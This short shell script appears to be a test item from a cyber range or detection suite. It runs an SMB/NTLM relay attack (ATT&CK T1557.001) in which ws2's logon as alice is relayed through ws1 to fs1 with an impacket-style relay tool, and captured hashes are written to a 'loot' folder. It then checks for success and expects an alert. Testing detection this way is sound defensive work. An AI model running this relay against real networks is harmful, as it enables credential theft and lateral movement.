# SPDX-License-Identifier: Apache-2.0
# what: ws2's logon relayed by ws1 to fs1
# technique: T1557.001
# from: ws1
# to: fs1
# account: alice
# outcome: success
# must: alert relay
. "$RANGE_HERE/item.sh"
cd "$HOME"
mkdir -p loot
sleep 30 | timeout 25 /usr/bin/python3 "$RANGE_HERE/relay.py" -t smb://$fs1 -smb2support --no-http-server \
	--no-wcf-server --no-raw-server -of loot/h >"$HOME/relay.log" 2>&1 &
i=0
until nc -z 127.0.0.1 445 || [ $i = 80 ]; do i=$((i + 1)); sleep 0.2; done
printf 'shares\nexit\n' >"$HOME/do"
at ws2 timeout 15 /usr/bin/python3 "$IMPACKET/smbclient.py" -file "$HOME/do" "CORP/alice:$USER_PASSWORD@$ws1" || true
sleep 3
cat "$HOME/relay.log"
says 'SUCCEED' cat "$HOME/relay.log"
